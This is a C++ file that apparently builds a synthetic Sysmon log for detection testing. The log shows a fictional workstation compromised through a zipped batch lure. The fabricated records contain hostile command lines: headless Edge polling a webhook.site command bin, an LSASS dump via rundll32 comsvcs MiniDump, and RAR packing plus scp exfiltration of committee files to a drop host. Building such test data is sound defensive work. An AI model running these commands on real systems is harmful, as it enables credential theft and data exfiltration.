// WS117: Elias Lund's computer. A lure in a zip, a batch implant that polls a request bin through a headless browser,
// LSASS dumped, files packed and carried out over SSH.
#include <fmt/format.h>

#include <array>

#include "base/hash.h"
#include "tests/demo/windows.h"

namespace tocsin::demo {
namespace {

using evtx_writer::Value;

constexpr std::string_view kUser = "KALMORIA\\e.lund";
constexpr std::string_view kSystem = "NT AUTHORITY\\SYSTEM";
constexpr std::string_view kExplorer = "C:\\Windows\\explorer.exe";
constexpr std::string_view kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr std::string_view kEdge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
constexpr std::string_view kOutlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";

constexpr Process kDaily[] = {
    {.image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     .command = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                "\"C:\\Users\\e.lund\\Documents\\Committee\\draft report.docx\"",
     .parent = kExplorer,
     .parent_command = "C:\\Windows\\Explorer.EXE",
     .user = kUser,
     .original = "WinWord.exe",
     .description = "Microsoft Word",
     .product = "Microsoft Office"},
    {.image = kEdge,
     .command = "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument "
                "https://intranet.parliament.kalmoria.example/agenda",
     .parent = kExplorer,
     .parent_command = "C:\\Windows\\Explorer.EXE",
     .user = kUser,
     .original = "msedge.exe",
     .description = "Microsoft Edge",
     .product = "Microsoft Edge"},
    {.image = kEdge,
     .command = "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer "
                "--lang=en-GB --device-scale-factor=1",
     .parent = kEdge,
     .parent_command = "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\"",
     .user = kUser,
     .integrity = "Low",
     .original = "msedge.exe",
     .description = "Microsoft Edge",
     .product = "Microsoft Edge"},
    {.image = "C:\\Windows\\System32\\svchost.exe",
     .command = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS",
     .parent = "C:\\Windows\\System32\\services.exe",
     .parent_command = "C:\\Windows\\system32\\services.exe",
     .user = kSystem,
     .integrity = "System",
     .original = "svchost.exe",
     .description = "Host Process for Windows Services",
     .product = "Microsoft Windows Operating System"},
    {.image = "C:\\Windows\\System32\\backgroundTaskHost.exe",
     .command =
         "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
     .parent = "C:\\Windows\\System32\\svchost.exe",
     .parent_command = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
     .user = kUser,
     .original = "backgroundTaskHost.exe",
     .description = "Background Task Host",
     .product = "Microsoft Windows Operating System"},
    {.image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     .command = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" "
                "\"C:\\Users\\e.lund\\Documents\\Committee\\travel costs.xlsx\"",
     .parent = kExplorer,
     .parent_command = "C:\\Windows\\Explorer.EXE",
     .user = kUser,
     .original = "Excel.exe",
     .description = "Microsoft Excel",
     .product = "Microsoft Office"},
    {.image = kCmd,
     .command = "C:\\Windows\\system32\\cmd.exe /c \"C:\\Program Files\\Kalmoria\\logon\\drives.cmd\"",
     .parent = "C:\\Windows\\System32\\userinit.exe",
     .parent_command = "C:\\Windows\\system32\\userinit.exe",
     .user = kUser,
     .original = "Cmd.Exe",
     .description = "Windows Command Processor",
     .product = "Microsoft Windows Operating System"},
};

constexpr std::string_view kDailyNames[] = {"intranet.parliament.kalmoria.example",
                                            "outlook.office365.com",
                                            "news.example",
                                            "dc01.parliament.kalmoria.example",
                                            "weather.example",
                                            "library.example",
                                            "update.example"};

class Workstation {
 public:
  Workstation()
      : log_("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
             "WS117.parliament.kalmoria.example", 48211) {}

  void start(Time time, const Process& p) {
    const std::uint64_t number = ++processes_;
    auto& record = open(time, 1, 5);
    add(record, "ProcessGuid", Value::guid(guid(number)));
    add(record, "ProcessId", Value::u32(pid(number)));
    text(record, "Image", p.image);
    text(record, "FileVersion", "10.0.22621.1");
    text(record, "Description", p.description.empty() ? "-" : p.description);
    text(record, "Product", p.product.empty() ? "-" : p.product);
    text(record, "Company", p.company);
    text(record, "OriginalFileName", p.original.empty() ? "-" : p.original);
    text(record, "CommandLine", p.command);
    text(record, "CurrentDirectory", p.user == kSystem ? "C:\\Windows\\system32\\" : "C:\\Users\\e.lund\\");
    text(record, "User", p.user);
    add(record, "LogonGuid", Value::guid(guid(p.user == kSystem ? 7 : 8)));
    add(record, "LogonId", Value::hex64(p.user == kSystem ? 0x3e7 : 0x5a91c));
    add(record, "TerminalSessionId", Value::u32(p.user == kSystem ? 0 : 1));
    text(record, "IntegrityLevel", p.integrity);
    text(record, "Hashes", "SHA256=" + sha256(p.image).hex());
    add(record, "ParentProcessGuid", Value::guid(guid(number / 3)));
    add(record, "ParentProcessId", Value::u32(pid(number / 3)));
    text(record, "ParentImage", p.parent);
    text(record, "ParentCommandLine", p.parent_command);
    text(record, "ParentUser", p.user);
  }

  void connect(Time time, std::string_view image, std::string_view user, std::string_view address,
               std::string_view name, std::uint16_t port) {
    auto& record = open(time, 3, 5);
    process(record, image, "ProcessGuid", "ProcessId", "Image");
    text(record, "User", user);
    text(record, "Protocol", "tcp");
    add(record, "Initiated", Value::boolean(true));
    add(record, "SourceIsIpv6", Value::boolean(false));
    text(record, "SourceIp", "10.4.7.117");
    text(record, "SourceHostname", "WS117.parliament.kalmoria.example");
    add(record, "SourcePort", Value::u16(static_cast<std::uint16_t>(49152 + processes_ * 7 % 16000)));
    text(record, "SourcePortName", "-");
    add(record, "DestinationIsIpv6", Value::boolean(false));
    text(record, "DestinationIp", address);
    text(record, "DestinationHostname", name);
    add(record, "DestinationPort", Value::u16(port));
    text(record, "DestinationPortName", port == 443 ? "https" : port == 22 ? "ssh" : "-");
  }

  void look_up(Time time, std::string_view image, std::string_view name, std::string_view answer) {
    auto& record = open(time, 22, 5);
    process(record, image, "ProcessGuid", "ProcessId", {});
    text(record, "QueryName", name);
    text(record, "QueryStatus", "0");
    text(record, "QueryResults", fmt::format("::ffff:{};", answer));
    text(record, "Image", image);
    text(record, "User", kUser);
  }

  void create(Time time, std::string_view image, std::string_view file) {
    auto& record = open(time, 11, 2);
    process(record, image, "ProcessGuid", "ProcessId", "Image");
    text(record, "TargetFilename", file);
    text(record, "CreationUtcTime", stamp(time));
    text(record, "User", kUser);
  }

  void open_lsass(Time time, std::string_view image, std::uint32_t access) {
    auto& record = open(time, 10, 3);
    process(record, image, "SourceProcessGUID", "SourceProcessId", {});
    add(record, "SourceThreadId", Value::u32(4711));
    text(record, "SourceImage", image);
    process(record, "lsass", "TargetProcessGUID", "TargetProcessId", {});
    text(record, "TargetImage", "C:\\Windows\\system32\\lsass.exe");
    add(record, "GrantedAccess", Value::hex32(access));
    text(record, "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4e4|C:\\Windows\\System32\\KERNELBASE.dll+2c4fe");
    text(record, "SourceUser", kSystem);
    text(record, "TargetUser", kSystem);
  }

  std::string finish() { return log_.finish(); }

 private:
  using Record = evtx_writer::Record;

  static void add(Record& record, std::string_view name, Value value) {
    record.data.emplace_back(name, std::move(value));
  }
  static void text(Record& record, std::string_view name, std::string_view value) {
    add(record, name, Value::text(value));
  }
  static std::string stamp(Time time) {  // as Sysmon writes it: milliseconds, a space, no zone
    time.digits = 3;
    std::string iso = time.iso();
    iso[10] = ' ';
    iso.pop_back();
    return iso;
  }
  static std::uint32_t pid(std::uint64_t number) {
    return static_cast<std::uint32_t>(1000 + number * 52 % 30000) & ~3u;
  }

  Record& open(Time time, std::uint16_t id, std::uint8_t version) {
    Record& record = log_.add(time, id);
    record.version = version;
    record.task = id;
    record.process_id = 3120;
    record.thread_id = 4188;
    record.user_sid = "S-1-5-18";
    text(record, "RuleName", "-");
    text(record, "UtcTime", stamp(time));
    return record;
  }
  void process(Record& record, std::string_view image, std::string_view guid_name, std::string_view pid_name,
               std::string_view image_name) {
    const std::uint64_t number = hash64(image) % 5000;
    add(record, guid_name, Value::guid(guid(number)));
    add(record, pid_name, Value::u32(pid(number)));
    if (!image_name.empty()) text(record, image_name, image);
  }

  EventLog log_;
  std::uint64_t processes_ = 0;
};

void daily_life(Workstation& host) {
  Dice dice(117);
  for (const Time time : office_moments(dice, 200)) {
    switch (dice.below(5)) {
      case 0:
      case 1:
        host.start(time, dice.pick(std::span<const Process>(kDaily)));
        break;
      case 2:
        host.look_up(time, dice.below(3) ? kEdge : kOutlook, dice.pick(std::span<const std::string_view>(kDailyNames)),
                     "192.0.2.80");
        break;
      case 3:
        host.connect(time, dice.below(2) ? kEdge : kOutlook, kUser, "192.0.2.80", "-", 443);
        break;
      default:
        host.create(time, kOutlook,
                    fmt::format("C:\\Users\\e.lund\\AppData\\Local\\Microsoft\\Outlook\\mail{}.tmp", dice.below(900)));
    }
  }
  // A mail program of his own under Program Files, as some have: no business of ours.
  host.connect(at("2026-09-15T06:58:03.2"), "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe", kUser,
               "192.0.2.25", "mail1.parliament.kalmoria.example", 993);
}

void lure(Workstation& host) {
  constexpr std::string_view kBatch =
      "C:\\Windows\\system32\\cmd.exe /c "
      "\"\"C:\\Users\\e.lund\\AppData\\Local\\Temp\\Temp1_Agenda_15_September.zip\\Agenda "
      "15 September.cmd\" \"";
  host.create(at("2026-09-15T07:41:52.4"), kOutlook, "C:\\Users\\e.lund\\Downloads\\Agenda_15_September.zip");
  host.start(at("2026-09-15T07:42:11.3"), {.image = kCmd,
                                           .command = kBatch,
                                           .parent = kExplorer,
                                           .parent_command = "C:\\Windows\\Explorer.EXE",
                                           .user = kUser,
                                           .original = "Cmd.Exe",
                                           .description = "Windows Command Processor",
                                           .product = "Microsoft Windows Operating System"});
  host.create(at("2026-09-15T07:42:14.1"), kCmd, "C:\\ProgramData\\edge_update.cmd");
  host.create(at("2026-09-15T07:42:14.9"), kCmd,
              "C:\\Users\\e.lund\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\EdgeUpdate.url");
  // The implant asks its bin every ten minutes and takes what the browser downloaded.
  for (int round = 0; round < 8; ++round) {
    const Time time = at("2026-09-15T07:43:00.6").plus_seconds(round * 600 + round % 3);
    host.start(time, {.image = kEdge,
                      .command = "msedge --headless=new --disable-gpu "
                                 "https://webhook.site/6f1f0d6c-8f3e-4b0a-9d53-3b7a1c0e7788",
                      .parent = kCmd,
                      .parent_command = "cmd /c C:\\ProgramData\\edge_update.cmd",
                      .user = kUser,
                      .original = "msedge.exe",
                      .description = "Microsoft Edge",
                      .product = "Microsoft Edge"});
    host.look_up(time.plus_seconds(1), kEdge, "webhook.site", "203.0.113.20");
    host.connect(time.plus_seconds(1), kEdge, kUser, "203.0.113.20", "-", 443);
  }
}

void theft(Workstation& host) {
  constexpr std::string_view kShell = "cmd /c C:\\ProgramData\\edge_update.cmd";
  host.start(at("2026-09-15T10:31:40.2"),
             {.image = "C:\\Windows\\System32\\rundll32.exe",
              .command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\PerfLogs\\w.dmp full",
              .parent = kCmd,
              .parent_command = kShell,
              .user = kSystem,
              .integrity = "System",
              .original = "RUNDLL32.EXE",
              .description = "Windows host process (Rundll32)",
              .product = "Microsoft Windows Operating System"});
  host.open_lsass(at("2026-09-15T10:31:40.9"), "C:\\Windows\\System32\\rundll32.exe", 0x1fffff);
  host.start(at("2026-09-15T11:24:05.7"),
             {.image = "C:\\Users\\Public\\Rar.exe",
              .command = "C:\\Users\\Public\\Rar.exe a -r -hpk4lm0r1a -v50m C:\\PerfLogs\\p.rar "
                         "C:\\Users\\e.lund\\Documents\\Committee",
              .parent = kCmd,
              .parent_command = kShell,
              .user = kUser,
              .original = "-",
              .description = "Command line RAR",
              .product = "WinRAR",
              .company = "Alexander Roshal"});
  for (int part = 1; part <= 2; ++part) {
    host.create(at("2026-09-15T11:24:31.0").plus_seconds(part * 9), "C:\\Users\\Public\\Rar.exe",
                fmt::format("C:\\PerfLogs\\p.part{}.rar", part));
    const Time time = at("2026-09-15T11:29:10.5").plus_seconds(part * 140);
    const std::string command = fmt::format(
        "scp -i C:\\Users\\Public\\k -o StrictHostKeyChecking=no C:\\PerfLogs\\p.part{}.rar u@{}:/srv/d/", part, kDrop);
    host.start(time, {.image = "C:\\Windows\\System32\\OpenSSH\\scp.exe",
                      .command = command,
                      .parent = kCmd,
                      .parent_command = kShell,
                      .user = kUser,
                      .original = "-",
                      .description = "-",
                      .product = "OpenSSH for Windows",
                      .company = "-"});
    host.connect(time.plus_seconds(1), "C:\\Windows\\System32\\OpenSSH\\ssh.exe", kUser, kDrop, "-", 22);
  }
}

}  // namespace

std::string workstation_sysmon() {
  Workstation host;
  daily_life(host);
  lure(host);
  theft(host);
  return host.finish();
}

}  // namespace tocsin::demo
